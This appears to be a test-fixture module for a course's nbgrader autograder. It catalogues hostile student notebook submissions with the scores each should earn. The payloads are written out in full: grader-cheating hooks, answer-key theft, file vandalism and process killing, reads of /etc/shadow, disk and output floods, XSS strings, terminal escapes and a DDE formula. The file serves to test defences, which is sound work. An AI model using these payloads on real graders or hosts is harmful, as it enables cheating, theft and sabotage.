"""A class of hostile and broken a1-roles submissions, each with the score it earned and what its feedback must say.

Every submission starts from the student notebook, either answered as the instructor would (``perfect``) or
untouched (``unanswered``), and then does one thing a grader must survive. ``earned`` is the autograded score it
deserves (None: it cannot be graded at all); ``feedback`` is a phrase its feedback must contain; ``fools_nbgrader``
marks attacks that pass tests inside the student's kernel (their verdict file shows inside points > outside points).

The attacks of issue 17 carry the class they belong to (``issue_class``): 1, expected values inside the kernel (read
from the cells IPython ran, from the notebook file, from what an object is compared with, or a probe fed a trivial
input); 2, leaks into what students get back; 3, what the sandbox shows; 4, resources; 6, what reaches the instructor
(HTML in formgrader and the feedback, the terminal). ``without_fix`` is what the attack earns from the grader as it
was before issue 17 (``tests/grading/test_isolation.py`` grades them that way too: the mutation check).

A second, independent review added attacks of its own (``review``): script in an image output's metadata and in a
Markdown link, HTML that takes a sanitizer quadratic time, a flood of displays, a forged verdict file handed in, a
notebook of too many cells, a cell passed off as the grader's probe, and a seed chosen to draw a neighbour's items
whose answers are copied (with a formula for the report's tables in the same answer file).
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import tempfile
import threading
import uuid
from dataclasses import dataclass
from pathlib import Path
from typing import Callable

import nbformat

from course.exercises.variants import load_pool

# the role sorter's key over its whole pool (each student sees four statements drawn from it:
# course/exercises/variants.py)
STATEMENT_KEY = {statement: spec["correct"] for statement, spec in json.loads(
    (Path(__file__).resolve().parents[2] / "solutions" / "a1-roles" / "misconceptions.json").read_text()
)["a1-role-sorter"].items()}
FULL = 10.0  # autograded points of a perfect a1-roles
SLEEP_MARK = 4242  # `sleep 4242`: a process a hostile notebook leaves running


@dataclass(frozen=True)
class Hostile:
    start: str  # "perfect" or "unanswered"
    change: Callable[[nbformat.NotebookNode], None]
    earned: float | None
    feedback: str = ""
    fools_nbgrader: bool = False
    answers_file: str | None = None  # text of pm-course-answers.json handed in beside the notebook
    issue_class: int | None = None  # the class of issue 17 the attack belongs to
    without_fix: float | None = None  # what it earns from the grader as it was before issue 17 (None: not checked)
    files: dict[str, str] | None = None  # other files handed in beside the notebook: name to text
    review: bool = False  # found by the second review of issue 17


def grade_id(cell) -> str | None:
    return cell.get("metadata", {}).get("nbgrader", {}).get("grade_id")


def is_test(cell) -> bool:
    nbgrader = cell.get("metadata", {}).get("nbgrader", {})
    return bool(nbgrader.get("grade")) and not nbgrader.get("solution") and cell.cell_type == "code"


def first(source: str):
    def change(notebook):
        notebook.cells.insert(1, nbformat.v4.new_code_cell(source))
    return change


def last(source: str):
    def change(notebook):
        notebook.cells.append(nbformat.v4.new_code_cell(source))
    return change


def answer(cell_id: str, source: str):
    def change(notebook):
        for cell in notebook.cells:
            if grade_id(cell) == cell_id:
                cell.source = source
    return change


def after_source(start: str, source: str):
    """A new cell right after the first cell whose source starts with ``start``."""
    def change(notebook):
        index = next(i for i, cell in enumerate(notebook.cells) if cell.source.startswith(start))
        notebook.cells.insert(index + 1, nbformat.v4.new_code_cell(source))
    return change


def tagged(cell_id: str, tags: list[str]):
    def change(notebook):
        for cell in notebook.cells:
            if grade_id(cell) == cell_id:
                cell.metadata["tags"] = tags
    return change


def both(*changes):
    def change(notebook):
        for one in changes:
            one(notebook)
    return change


def delete_tests(notebook):
    notebook.cells = [cell for cell in notebook.cells if not is_test(cell)]


def empty_tests(notebook):
    for cell in notebook.cells:
        if is_test(cell):
            cell.source = "pass"


def duplicate_tests(notebook):
    """Every test cell twice (the copy keeps the grade id): nbgrader must not count a test twice."""
    cells = []
    for cell in notebook.cells:
        cells.append(cell)
        if is_test(cell):
            cells.append(nbformat.v4.new_code_cell(cell.source, metadata=json.loads(json.dumps(cell.metadata))))
    notebook.cells = cells


def tests_first(notebook):
    """The test cells moved above everything else, so they run before the answers exist."""
    notebook.cells = [cell for cell in notebook.cells if is_test(cell)] + \
        [cell for cell in notebook.cells if not is_test(cell)]


def inflate_points(notebook):
    """Every test claims 100 points in its metadata."""
    for cell in notebook.cells:
        if is_test(cell):
            cell.metadata["nbgrader"]["points"] = 100


def unmark_tests(notebook):
    for cell in notebook.cells:
        if is_test(cell):
            cell.metadata.pop("nbgrader")
            cell.source = "pass"


ALWAYS_EQUAL = '''
class Anything(str):
    """Claims to equal everything."""
    def __eq__(self, other):
        return True
    __hash__ = str.__hash__

def responsible_role(duration, reach, focus):
    return Anything("")
'''

INPUT_TRANSFORMER = '''
def _blank_tests(lines):
    text = "".join(lines)
    return [] if ("assert" in text or "points_for_matches" in text) else lines

get_ipython().input_transformers_post.append(_blank_tests)
'''

AST_TRANSFORMER = '''
import ast

class _NoAsserts(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
    def visit_Raise(self, node):
        return ast.Pass()

get_ipython().ast_transformers.append(_NoAsserts())
'''

PATCHED_BUILTINS = '''
import builtins
builtins.isinstance = lambda obj, kinds: True
builtins.NotImplementedError = type("NotImplementedError", (Warning,), {})
'''

SWALLOW_ERRORS = '''
get_ipython().set_custom_exc((BaseException,), lambda shell, kind, value, tb, tb_offset=None: None)
'''

FAKE_HELPER = '''
import sys, types
fake = types.ModuleType("course.exercises.widget_checks")
fake.points_for_matches = lambda answers, key, points: points
fake.answered_points = lambda answers, count, points: points
sys.modules["course.exercises.widget_checks"] = fake
'''

FAKE_PROBE_LINE = '''
import json
_claims = {"sorted_roles": {"value": %r}}
get_ipython().events.register("post_run_cell",
                               lambda result: print("pm-course-probe-results:" + json.dumps(_claims)))
''' % STATEMENT_KEY

STEAL = '''
def role_sorter_answers():
    """Looks for the key: in the solution notebook, the gradebook, another student's notebook and answers."""
    import ast, json, pathlib, re
    # the course folder: above the notebook's own folder, and where it really is (the attack is told: the worst case)
    courses = [pathlib.Path.cwd().parents[2], pathlib.Path("COURSE_ROOT")]
    for course in courses:
        for path in (course / "solutions" / "a1-roles" / "roles.ipynb",
                     course / "autograded" / "honest" / "a1-roles" / "roles.ipynb",
                     course / "submitted" / "honest" / "a1-roles" / "roles.ipynb"):
            try:
                cells = json.loads(path.read_text())["cells"]
            except (OSError, ValueError, KeyError):
                continue
            for cell in cells:
                source = "".join(cell["source"])
                found = re.search(r"points_for_matches\\(sorted_roles, (\\{.*?\\}), points", source, re.S) or \\
                    re.search(r"return (\\{\\s*.c1.*?\\})", source, re.S)
                if found:
                    return ast.literal_eval(found.group(1))
        for path in (course / "submitted" / "honest" / "a1-roles" / "pm-course-answers.json",
                     course / "gradebook.db"):
            try:
                return json.loads(path.read_text())["answers"]["a1-role-sorter"]
            except (OSError, ValueError, KeyError):
                continue
    return {}
'''

VANDAL = '''
import os, pathlib, signal, socket
for course in (pathlib.Path.cwd().parents[2], pathlib.Path("COURSE_ROOT")):
    for target in (course / "gradebook.db", course / "submitted" / "honest" / "a1-roles" / "roles.ipynb",
                   course / "solutions" / "a1-roles" / "outside_checks.py", course / "nbgrader_config.py"):
        try:
            target.write_text("vandalised")
        except OSError:
            pass
try:
    socket.create_connection(("127.0.0.1", 22), timeout=1)
except OSError:
    pass
os.kill(os.getppid(), signal.SIGKILL)
os.kill(1, signal.SIGKILL)
'''

END_EVERY_PROCESS = '''
import os, signal
for pid in filter(str.isdigit, os.listdir("/proc")):
    if int(pid) != os.getpid():
        try:
            os.kill(int(pid), signal.SIGKILL)
        except OSError:
            pass
'''


# ---- issue 17, class 1: expected values inside the kernel ---------------------------------------------------------

# answers from what the tests compare with: a hook reads each cell before it runs (IPython's raw_cell, the same text
# it keeps in In), learns every `responsible_role(...) == "role"` and every loop of them, and answers from that
LEARN_ASSERTS = r'''
import re
_learned, _by_focus = {}, {}

def _learn(text):
    for d, r, f, role in re.findall(r'responsible_role\("([^"]+)", "([^"]+)", "([^"]+)"\) == "(\w+)"', text):
        _learned[(d, r, f)] = role
    for f, role in re.findall(r'responsible_role\(\w+, \w+, "(\w+)"\) == "(\w+)"', text):
        _by_focus[f] = role
'''
HARVEST_CELLS = LEARN_ASSERTS + '''
get_ipython().events.register("pre_run_cell", lambda info: _learn(info.raw_cell))
'''
ANSWER_FROM_HARVEST = '''
def responsible_role(duration, reach, focus):
    return _learned.get((duration, reach, focus)) or _by_focus.get(focus) or "project_manager"
'''
# the same, from the notebook file nbgrader wrote in the kernel's folder (its test cells hold the hidden tests)
READ_OWN_NOTEBOOK = r'''
import glob, json
for _path in glob.glob("*.ipynb"):
    try:
        for _cell in json.load(open(_path))["cells"]:
            _learn("".join(_cell["source"]))
    except (OSError, ValueError, KeyError):
        pass
'''
# an object that records what it is compared with: the hidden asserts teach it the expected values
COMPARISON_SPY = '''
_seen = {}

class _Spy(str):
    def __eq__(self, other):
        _seen[self.arguments] = other
        return True
    __hash__ = str.__hash__

def responsible_role(duration, reach, focus):
    if (duration, reach, focus) in _seen:
        return _seen[(duration, reach, focus)]
    spy = _Spy("project_manager")
    spy.arguments = (duration, reach, focus)
    return spy
'''
# classify is wrong on any real table, right on small ones, and the notebook's `activities` (which a probe once
# read) is replaced by an empty table: every check made on `activities` passes
LAZY_CLASSIFY = '''
import pandas as pd
from course.paths import data_dir


def classify(activities):
    if len(activities) > 5:
        return pd.Series("product_manager", index=activities["activity_id"].to_numpy(), name="role")
    roles = [responsible_role(row.duration, row.reach, row.focus) for row in activities.itertuples()]
    return pd.Series(roles, index=activities["activity_id"].to_numpy(), name="role", dtype=object)
'''
TRIVIAL_INPUT = "activities = activities.iloc[:0]"

# ---- issue 17, class 2: leaks into what students get back ---------------------------------------------------------

LEAK_MARK = "pm-course-leaked:"
# shows a display in its own cell, then, when the grader's probe (or a hidden test) runs, writes its source into that
# earlier display, into a widget, and as output addressed to its own earlier cell
PROBE_SPY = r'''
import sys
import ipywidgets
from IPython.display import HTML, display, update_display

display(HTML("nothing yet"), display_id="spy")
_spy_widget = ipywidgets.Text("nothing yet")
display(_spy_widget)
_spy_parent = sys.stdout.parent_header

def _leak(info):
    if "__pm_course_probe" in info.raw_cell or "HIDDEN TESTS" in info.raw_cell or "Rubric" in info.raw_cell:
        text = "pm-course-" + "leaked:" + info.raw_cell  # (the mark is made here: the cell's source never holds it)
        update_display(HTML(text), display_id="spy")
        _spy_widget.value = text
        now = sys.stdout.parent_header
        sys.stdout.set_parent(_spy_parent)
        print(text, flush=True)
        sys.stdout.set_parent(now)

get_ipython().events.register("pre_run_cell", _leak)
'''
MARKER_IN_ANSWER = "# my notes: ### BEGIN HIDDEN TESTS (a phrase the course uses), never closed\n"

# ---- issue 17, class 3: what the sandbox shows ------------------------------------------------------------------

LOOK_AROUND = r'''
import glob, json, os, socket
planted = PLANTED
seen = {}
def read(path, size=300):
    try:
        with open(path, "rb") as file:
            return file.read(size).decode(errors="replace")
    except OSError:
        return None
for name, path in planted["files"].items():
    seen[name] = read(path)
seen["/etc/shadow"] = read("/etc/shadow")
seen["users"] = sorted(line.split(":")[0] for line in (read("/etc/passwd") or "").splitlines() if line)
seen["homes"] = sorted(glob.glob("/home/*") + glob.glob("/root/*") + glob.glob("/srv/*") + glob.glob("/var/*"))
import sys
seen["configuration"] = sorted(name for folder in ("/usr/local/etc", sys.prefix + "/etc")
                               for name in (os.listdir(folder) if os.path.isdir(folder) else []))
environments = [dict(os.environ)]
for pid in ("self", "1"):
    text = read(f"/proc/{pid}/environ", 1_000_000) or ""
    environments.append(dict(item.split("=", 1) for item in text.split("\0") if "=" in item))
seen["secrets"] = sorted({name for environment in environments for name in environment
                          if name in planted["variables"]})
seen["sockets"] = []
for path in planted["sockets"]:
    try:
        with socket.socket(socket.AF_UNIX) as client:
            client.settimeout(2)
            client.connect(path)
            client.sendall(b"UPDATE grades SET score = 100")
        seen["sockets"].append(path)
    except OSError:
        pass
print("LOOKED:" + json.dumps(seen))
'''

# ---- issue 17, class 4: resources -------------------------------------------------------------------------------

FILL_THE_DISK = r'''
import json, os
written = {}
for place in PLACES:
    total, stopped = 0, None
    try:
        for number in range(LIMIT // (60 * 1024**2) + 1):
            with open(os.path.join(place, f"filler-{number}"), "wb") as filler:
                for _ in range(15):
                    filler.write(b"\1" * 4 * 1024**2)
                    total += 4 * 1024**2
                    if total >= LIMIT:
                        raise StopIteration
    except StopIteration:
        pass
    except OSError as error:
        stopped = error.errno
    written[place] = [total, stopped]
print("FILLED:" + json.dumps(written))
'''
IPC_PLANT = r'''
import ctypes, json
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
segment = libc.shmget(0x5eed17, 4096, 0o1600)  # IPC_CREAT | 0600
ctypes.memmove(libc.shmat(segment, None, 0), b"answers of an earlier student", 29)
queue = libc.msgget(0x5eed18, 0o1600)
print("PLANTED:" + json.dumps({"segment": segment, "queue": queue}))
'''
IPC_FIND = r'''
import ctypes, json
libc = ctypes.CDLL(None, use_errno=True)
libc.shmat.restype = ctypes.c_void_p
found = {}
segment = libc.shmget(0x5eed17, 0, 0)
if segment >= 0:
    found["segment"] = ctypes.string_at(libc.shmat(segment, None, 0), 29).decode()
    libc.shmctl(segment, 0, None)  # IPC_RMID: leave nothing behind
queue = libc.msgget(0x5eed18, 0)
if queue >= 0:
    found["queue"] = queue
    libc.msgctl(queue, 0, None)
print("FOUND:" + json.dumps(found))
'''
ZOMBIE_NAME = "pm-zombie"
# a process whose main thread exits while another thread runs on: /proc shows it as a zombie; its thread ends every
# process started after it (the next students' kernels). Each test names its thread apart (at most 15 characters), so
# one test looking for leftovers on the host never sees another's, running at the same time in another worker.
_ZOMBIE_LEADER = r'''
import ctypes, os, platform, signal, threading, time
if os.fork() == 0:
    os.setsid()

    def haunt():
        ctypes.CDLL(None).prctl(15, b"ZOMBIE_NAME", 0, 0, 0)  # PR_SET_NAME
        me = os.getpid()
        while True:
            for entry in os.listdir("/proc"):
                if entry.isdigit() and int(entry) > me:
                    try:
                        os.kill(int(entry), signal.SIGKILL)
                    except OSError:
                        pass
            time.sleep(0.02)

    threading.Thread(target=haunt).start()
    time.sleep(0.3)
    ctypes.CDLL(None).syscall({"x86_64": 60, "aarch64": 93}[platform.machine()], 0)  # SYS_exit: this thread only
time.sleep(0.5)
print("haunting")
'''


def zombie_leader(name: str = ZOMBIE_NAME) -> str:
    """The haunting process, its thread named ``name``."""
    assert len(name.encode()) <= 15, "Linux keeps 15 bytes of a thread's name"
    return _ZOMBIE_LEADER.replace("ZOMBIE_NAME", name)


ZOMBIE_LEADER = zombie_leader()

# ---- the second review ------------------------------------------------------------------------------------------

# class 6: nbconvert writes an image's width and height unquoted into <img>, and nbgrader's templates render Markdown
# cells without cleaning what the Markdown made
IMAGE_METADATA = r'''
from IPython.display import display
display({"image/png": "iVBORw0KGgo", "text/plain": "a picture"}, raw=True,
        metadata={"image/png": {"width": "1 onerror=window.PWNED_WIDTH=1", "height": "2 onload=PWNED_HEIGHT"}})
'''
MARKDOWN_LINK = "My answer, with a source: [read more](javascript:window.PWNED_MDLINK=1).\n"
# class 4: time outside every limit where the feedback and formgrader's page are made (bleach is quadratic in the
# elements, ammonia in the nesting of lists); and memory and disk where the grader collects a notebook's output
NESTED_TAGS = 50_000
QUADRATIC_ANSWER = "My answer. " + "<ul><li>" * NESTED_TAGS
QUADRATIC_OUTPUT = f'from IPython.display import HTML, display\ndisplay(HTML("<b>" * {2 * NESTED_TAGS}))'
FLOOD_MEGABYTES = 40
OUTPUT_FLOOD = f'''
from IPython.display import display
for _ in range({FLOOD_MEGABYTES}):
    display({{"text/plain": "y" * 1_000_000}}, raw=True)
'''
# class 6 and lead 1: a verdict file of its own, read by the summary, and the grader's copied into feedback/
FORGED_NOTE = "Your answer file was made for another student (honest)"
FORGED_VERDICTS = json.dumps({"role_sorter_roles": {"note": FORGED_NOTE + ": its items \x1b]2;pwned\x07"}})
REPORT_FORMULA = "-2+3+cmd|' /C calc'!A0"  # a DDE formula, for a spreadsheet that opens the report's CSV


def chosen_seed_submission(student: str, neighbour: str) -> Hostile:
    """A random: seed tried until it draws the neighbour's statements, whose answers (the key's) are copied. Earns
    only what its own statements share with the neighbour's where draws come from student ids. The first attempt of
    every statement is a formula, for the report's tables."""
    pool = load_pool("a1-role-sorter")
    wanted = pool.draw(f"user:{neighbour}")
    seed = next(f"random:{number:x}" for number in range(100_000) if pool.draw(f"random:{number:x}") == wanted)
    copied = {statement: STATEMENT_KEY[statement] for statement in wanted}
    own = pool.draw(f"user:{student}")
    answers_file = json.dumps({"format": 1, "seed": seed, "answers": {"a1-role-sorter": copied},
                               "attempts": {"a1-role-sorter": {statement: {"first": REPORT_FORMULA, "count": 1}
                                                               for statement in [*own, *wanted]}},
                               "pools": {"a1-role-sorter": {"seed": seed, "items": wanted}}})
    return Hostile("perfect", answer("role_sorter_answers", "def role_sorter_answers():\n    return {}"),
                   FULL - 4 + len(set(own) & set(wanted)), "not the ones drawn for you", answers_file=answers_file,
                   without_fix=FULL, review=True)


def probe_impostor(notebook):
    """An AST transformer in a cell marked as the grader's probe cell: removed with the probe, it was never seen in
    formgrader or the feedback, which could not name it."""
    notebook.cells.insert(1, nbformat.v4.new_code_cell(AST_TRANSFORMER, metadata={"pm_course_probe": True}))


def many_cells(notebook):
    notebook.cells.extend(nbformat.v4.new_markdown_cell("more") for _ in range(1_500))


# ---- issue 17, class 6: what reaches the instructor ------------------------------------------------------------

HTML_ANSWER = (
    "My answer.\n\n"
    '<script>window.PWNED_SCRIPT = fetch("/api/contents")</script>\n'
    '<img src="x" onerror="window.PWNED_IMG=1">\n'
    '<a href="javascript:window.PWNED_LINK=1">read more</a>\n'
    '<iframe srcdoc="<script>parent.PWNED_FRAME=1</script>"></iframe>\n'
    '<svg onload="window.PWNED_SVG=1"><script>window.PWNED_SVG2=1</script></svg>\n'
    '<form action="/formgrader/api/grade"><input name="PWNED_FORM"></form>\n'
    '<meta http-equiv="refresh" content="0;url=javascript:PWNED_META">\n'
    '<div style="background:url(javascript:PWNED_STYLE)" onmouseover="PWNED_HOVER()">text</div>\n'
)
HTML_OUTPUT = r'''
from IPython.display import HTML, Javascript, Markdown, SVG, display
display(HTML('<img src="x" onerror="window.PWNED_OUT=1"><script>window.PWNED_OUT2=1</script>'))
display(Javascript("window.PWNED_JS = 1"))
display(Markdown('<img src="x" onerror="window.PWNED_MD=1">'))
display(SVG('<svg xmlns="http://www.w3.org/2000/svg"><script>window.PWNED_SVGOUT=1</script></svg>'))
'''
TERMINAL_MARK = "KERNEL-OUTPUT"
SCRIBBLE_ON_THE_TERMINAL = r'''
import os
os.write(1, b"\x1b]2;pwned\x07\x1b[2J\x1b[31mKERNEL-OUTPUT on stdout\n")
os.write(2, b"\x1b[1;31mKERNEL-OUTPUT on stderr\n")
'''


SECRET_VARIABLE = "PM_COURSE_TEST_DB_PASSWORD"
REPOSITORY = Path(__file__).resolve().parents[2]


class PlantedSecrets:
    """What a hub's other users and services leave around the grader: another student's home with a file in it, a
    database's Unix socket (that records every connection), a password in the grader's environment. Placed in
    /var/tmp, which the sandbox as it was before issue 17 showed (it hid only /tmp, the home and the course)."""

    def __init__(self):
        self.folder = Path(tempfile.mkdtemp(prefix="pm-course-planted-", dir="/var/tmp"))
        (self.folder / "other-home").mkdir()
        (self.folder / "other-home" / "answers.txt").write_text("another student's answers")
        self.socket_path = str(self.folder / ".s.PGSQL.5432")
        self.server = socket.socket(socket.AF_UNIX)
        self.server.bind(self.socket_path)
        os.chmod(self.socket_path, 0o777)
        self.server.listen(8)
        self.connections: list[bytes] = []
        threading.Thread(target=self._serve, daemon=True).start()
        self.password = uuid.uuid4().hex

    def _serve(self):
        while True:
            try:
                client, _ = self.server.accept()
            except OSError:
                return
            with client:
                client.settimeout(2)
                try:
                    self.connections.append(client.recv(100))
                except OSError:
                    self.connections.append(b"")

    def targets(self) -> dict:
        return {"files": {"other student's home": str(self.folder / "other-home" / "answers.txt"),
                          "another checkout's solutions": str(REPOSITORY / "solutions" / "a1-roles" / "roles.ipynb"),
                          "the grader's key": str(REPOSITORY / "solutions" / "a1-roles" / "misconceptions.json")},
                "variables": [SECRET_VARIABLE], "sockets": [self.socket_path]}

    def close(self):
        self.server.close()
        shutil.rmtree(self.folder, ignore_errors=True)


def host_threads_named(name: str) -> list[str]:
    """The host's threads (``/proc/<pid>/task/<tid>/comm``) named ``name``: what a haunting process left running."""
    found = []
    for comm in Path("/proc").glob("[0-9]*/task/[0-9]*/comm"):
        try:
            if comm.read_text().strip() == name:
                found.append(str(comm))
        except OSError:
            continue
    return found


def aimed_at(notebook, course_root) -> None:
    """Tell the attacks in ``notebook`` where the course being graded really is (they read ``COURSE_ROOT``): the
    sandbox must hide it even from a student who knows the path."""
    for cell in notebook.cells:
        cell.source = cell.source.replace("COURSE_ROOT", str(course_root))


def looks_around(planted: dict) -> Hostile:
    """Looks for what ``planted`` holds (files, environment variables, sockets) and prints what it saw in its own
    cell; otherwise answers as the instructor would."""
    return Hostile("perfect", first(LOOK_AROUND.replace("PLANTED", repr(planted))), FULL, issue_class=3)


def fills_the_disk(limit: int, everywhere: bool = True) -> str:
    """Writes up to ``limit`` bytes in its folder and (``everywhere``) its temporary folder and home, and prints
    how much it could write in each, and the error that stopped it."""
    places = '(os.getcwd(), os.environ["TMPDIR"], os.environ["HOME"])' if everywhere else "(os.getcwd(),)"
    return FILL_THE_DISK.replace("LIMIT", str(limit)).replace("PLACES", places)


def prepend_to_answer(cell_id: str, text: str):
    def change(notebook):
        for cell in notebook.cells:
            if grade_id(cell) == cell_id:
                cell.source = text + cell.source
    return change


HOSTILE: dict[str, Hostile] = {
    # tests fooled inside the kernel: the outside checks decide
    "always_equal": Hostile("unanswered", answer("responsible_role", ALWAYS_EQUAL), 0, "equal anything", True),
    "input_transformer": Hostile("unanswered", first(INPUT_TRANSFORMER), 0, "input transformer", True),
    "ast_transformer": Hostile("unanswered", first(AST_TRANSFORMER), 0, "AST transformer", True),
    "patched_builtins": Hostile("unanswered", both(first(PATCHED_BUILTINS), answer("responsible_role", ALWAYS_EQUAL)),
                                0, "broke how Jupyter sends results"),
    "swallowed_errors": Hostile("unanswered", first(SWALLOW_ERRORS), 0),
    "fake_test_helper": Hostile("unanswered", first(FAKE_HELPER), 0, "replaces modules", True),
    "fake_probe_line": Hostile("unanswered", first(FAKE_PROBE_LINE), 0),
    "exits_before_checks": Hostile("perfect", last("import os\nos._exit(0)"), 0, "could not check"),
    # time, memory, output, processes
    "endless_loop": Hostile("perfect", first("while True:\n    pass"), FULL, "ran longer than the time allowed"),
    "slow_notebook": Hostile("perfect", both(*[first("import time\ntime.sleep(2.5)")] * 6), 0,
                             "seconds allowed for the whole notebook"),
    "huge_output": Hostile("perfect", first('print("x" * 30_000_000)'), FULL),
    "memory_bomb": Hostile("perfect", first("block = bytearray(6 * 1024 ** 3)"), FULL, "MemoryError"),
    "left_running": Hostile("perfect", first(f'import subprocess\nsubprocess.Popen(["sleep", "{SLEEP_MARK}"], '
                                             'start_new_session=True)'), FULL),
    "vandal": Hostile("perfect", first(VANDAL), FULL),  # harms nothing, ends nothing: its own answers count
    # tries to end every process it can see, its kernel's template (the sandbox's init) too: ends nothing
    "ends_every_process": Hostile("perfect", first(END_EVERY_PROCESS), FULL),
    # reading what must stay hidden
    "thief": Hostile("perfect", answer("role_sorter_answers", STEAL), FULL - 4),
    # tampered test cells
    "deleted_tests": Hostile("unanswered", delete_tests, 0),
    "emptied_tests": Hostile("unanswered", empty_tests, 0),
    "unmarked_tests": Hostile("unanswered", unmark_tests, 0),
    "duplicated_tests": Hostile("perfect", duplicate_tests, FULL),
    # the visible parts fail (NameError); the two cells that are all hidden tests are decided outside the kernel
    # alone, on the student's own (correct) functions: their points are earned whatever the order of the cells
    "tests_moved_first": Hostile("perfect", tests_first, 2, "NameError"),
    "inflated_points": Hostile("perfect", inflate_points, FULL),
    # broken files
    "bad_answer_file": Hostile("perfect", answer("role_sorter_answers", "def role_sorter_answers():\n    return {}"),
                               FULL - 4, answers_file='{"format": 1, "answers": {"a1-role-sorter": '
                                                      '{"c1": ["program_manager"], "c2": 5, "c3": null}}}'),
    "not_a_notebook": Hostile("perfect", lambda notebook: None, None),
    # issue 17, class 1: with the fix hidden tests never run in the kernel; without it they teach the attack
    "hook_harvester": Hostile("perfect", both(first(HARVEST_CELLS), answer("responsible_role", ANSWER_FROM_HARVEST)),
                              FULL - 3, issue_class=1, without_fix=FULL - 1),
    "notebook_reader": Hostile("perfect", both(first(LEARN_ASSERTS + READ_OWN_NOTEBOOK),
                                               answer("responsible_role", ANSWER_FROM_HARVEST)),
                               FULL - 3, issue_class=1, without_fix=FULL - 1),
    "comparison_spy": Hostile("perfect", answer("responsible_role", COMPARISON_SPY), FULL - 3, fools_nbgrader=True,
                              issue_class=1, without_fix=FULL - 1),
    "trivial_input": Hostile("perfect", both(answer("classify", LAZY_CLASSIFY),
                                             after_source("activities = pd.read_csv", TRIVIAL_INPUT)),
                             FULL - 1, issue_class=1, without_fix=FULL),
    # issue 17, class 2: what the probe's run shows, and marker text in an answer
    "probe_spy": Hostile("perfect", first(PROBE_SPY), FULL, issue_class=2),
    "marker_in_answer": Hostile("perfect", prepend_to_answer("responsible_role", MARKER_IN_ANSWER), FULL,
                                issue_class=2),
    # issue 17, class 4: a disk of its own, IPC and processes that end with it (ipc_a runs before ipc_b on a worker)
    "disk_filler": Hostile("perfect", first(fills_the_disk(1024**3)), FULL, issue_class=4),
    "ipc_a_plants": Hostile("perfect", first(IPC_PLANT), FULL, issue_class=4),
    "ipc_b_finds": Hostile("perfect", first(IPC_FIND), FULL, issue_class=4),
    "zombie_leader": Hostile("perfect", first(ZOMBIE_LEADER), FULL, issue_class=4),
    # issue 17, class 6: script in a written answer and in outputs; escape sequences for the instructor's terminal
    "html_answer": Hostile("perfect", both(answer("subset_debate_answer", HTML_ANSWER), first(HTML_OUTPUT),
                                           tagged("subset_debate_answer", ['x" onmouseover="PWNED_TAG()'])),
                           FULL, issue_class=6),
    "terminal_scribbler": Hostile("perfect", first(SCRIBBLE_ON_THE_TERMINAL), FULL, issue_class=6),
    # the second review (test_isolation.py checks each; the mutation run grades those with a without_fix)
    "image_metadata": Hostile("perfect", first(IMAGE_METADATA), FULL, issue_class=6, review=True),
    "markdown_link": Hostile("perfect", answer("subset_debate_answer", MARKDOWN_LINK), FULL, issue_class=6,
                             review=True),
    "quadratic_html": Hostile("perfect", both(answer("subset_debate_answer", QUADRATIC_ANSWER),
                                              first(QUADRATIC_OUTPUT)), FULL, issue_class=4, review=True),
    "output_flood": Hostile("perfect", first(OUTPUT_FLOOD), FULL, "printed or displayed more than", issue_class=4,
                            without_fix=FULL, review=True),
    "forged_verdicts": Hostile("perfect", lambda notebook: None, FULL, issue_class=6, without_fix=FULL,
                               files={"zz.outside-checks.json": FORGED_VERDICTS}, review=True),
    "many_cells": Hostile("perfect", many_cells, None, review=True),
    "probe_impostor": Hostile("unanswered", probe_impostor, 0, "AST transformer", True, review=True),
    "chosen_seed": chosen_seed_submission("chosen_seed", "honest"),
}
